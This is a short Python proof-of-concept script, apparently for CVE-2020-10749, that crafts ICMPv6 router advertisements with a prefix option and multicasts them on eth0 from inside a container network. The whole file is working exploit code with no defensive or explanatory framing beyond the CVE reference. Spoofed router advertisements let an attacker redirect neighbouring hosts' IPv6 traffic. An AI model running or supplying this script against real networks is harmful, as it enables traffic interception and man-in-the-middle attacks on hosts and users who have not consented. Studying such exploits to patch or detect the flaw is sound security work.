"""Sends router advertisements out of the network that it runs in (CVE-2020-10749)."""

import socket
import struct

raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
index = socket.if_nametoindex("eth0")
# Type, code, checksum (the kernel's), hops, flags, lifetime, reachable, retransmission; then a prefix to configure from.
prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 3600, 0, socket.inet_pton(socket.AF_INET6, "2001:db8::"))
advertisement = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix
for _ in range(3):
    raw.sendto(advertisement, ("ff02::1", 0, 0, index))
print("sent")
